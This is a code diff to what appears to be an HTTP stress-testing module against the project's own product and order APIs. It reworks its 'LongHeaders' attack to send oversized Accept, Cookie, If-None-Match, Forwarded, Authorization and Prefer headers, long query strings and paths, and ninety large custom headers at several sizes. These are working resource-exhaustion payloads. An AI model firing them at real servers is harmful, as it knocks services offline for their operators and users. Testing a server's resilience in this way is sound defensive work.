@@ -13,6 +13,10 @@ REPEATS: Final = 3_900
 ENTRY: Final = 4_000
 """Bytes of a header value, which with its name fits the dynamic table of 4 KiB."""
 PAUSE: Final = 0.02
+SIZES: Final = (390_000, 30_000, 4_000)
+"""Bytes: what a server with large buffers accepts, and what the engine's own limits allow."""
+MAX_URI: Final = 64_000
+"""Bytes of a target that HTTP servers accept."""
 
 
 class _RepeatedHeader(Attack):
@@ -89,20 +93,7 @@ class LongHeaders(Attack):
     def run(self, target: Target) -> AttackFigures:
         figures = AttackFigures()
         product = f"/products/api/v1/{target.products[0]}/" if target.products else "/products/api/v1/"
-        requests: list[tuple[str, dict[str, str]]] = [
-            (product, {"Accept": "a," * 195_000}),
-            ("/products/api/v1/", {"Accept": "a;q=0," * 65_000}),
-            (product, {"If-None-Match": '"a",' * 98_000}),
-            (product, {"Cookie": "a=b;" * 98_000}),
-            (product, {"X_Forwarded_For": "1.1.1.1," * 48_000}),
-            (product, {"Forwarded": "for=1.1.1.1," * 32_000}),
-            ("/orders/api/v1/", {"Prefer": "wait=1," * 55_000}),
-            ("/orders/api/v1/", {"Authorization": "Bearer " + "e30." * 95_000}),
-            ("/products/api/v1/?" + "a=b&" * 16_000, {}),
-            ("/products/api/v1/?search=" + "ab+" * 21_000, {}),
-            ("/products/api/v1/" + "a/" * 32_000, {}),
-            (product, {f"X-{number}": "a" * 4_000 for number in range(90)}),
-        ]
+        requests = [request for size in SIZES for request in _long_requests(product, size)]
         slowest = 0.0
         with target.session() as session:
             for (path, headers), left in zip(cycle(requests), target.time_left(), strict=False):
@@ -116,6 +107,28 @@ class LongHeaders(Attack):
                 time.sleep(min(PAUSE, left))
         figures.notes["slowest answer, s"] = slowest
         return figures
+
+
+def _long_requests(product: str, size: int) -> list[tuple[str, dict[str, str]]]:
+    """Paths and headers, each with one part of `size` bytes."""
+
+    def fill(unit: str, limit: int = size) -> str:
+        return unit * (min(size, limit) // len(unit))
+
+    return [
+        (product, {"Accept": fill("a,")}),
+        ("/products/api/v1/", {"Accept": fill("a;q=0,")}),
+        (product, {"If-None-Match": fill('"a",')}),
+        (product, {"Cookie": fill("a=b;")}),
+        (product, {"X_Forwarded_For": fill("1.1.1.1,")}),
+        (product, {"Forwarded": fill("for=1.1.1.1,")}),
+        ("/orders/api/v1/", {"Prefer": fill("wait=1,")}),
+        ("/orders/api/v1/", {"Authorization": "Bearer " + fill("e30.")}),
+        ("/products/api/v1/?" + fill("a=b&", MAX_URI), {}),
+        ("/products/api/v1/?search=" + fill("ab+", MAX_URI), {}),
+        ("/products/api/v1/" + fill("a/", MAX_URI), {}),
+        (product, {f"X-{number}": fill("a")[: size // 90] for number in range(90)}),
+    ]
 
 
 ATTACKS = (RepeatedAccept(), RepeatedIfNoneMatch(), LongHeaders())
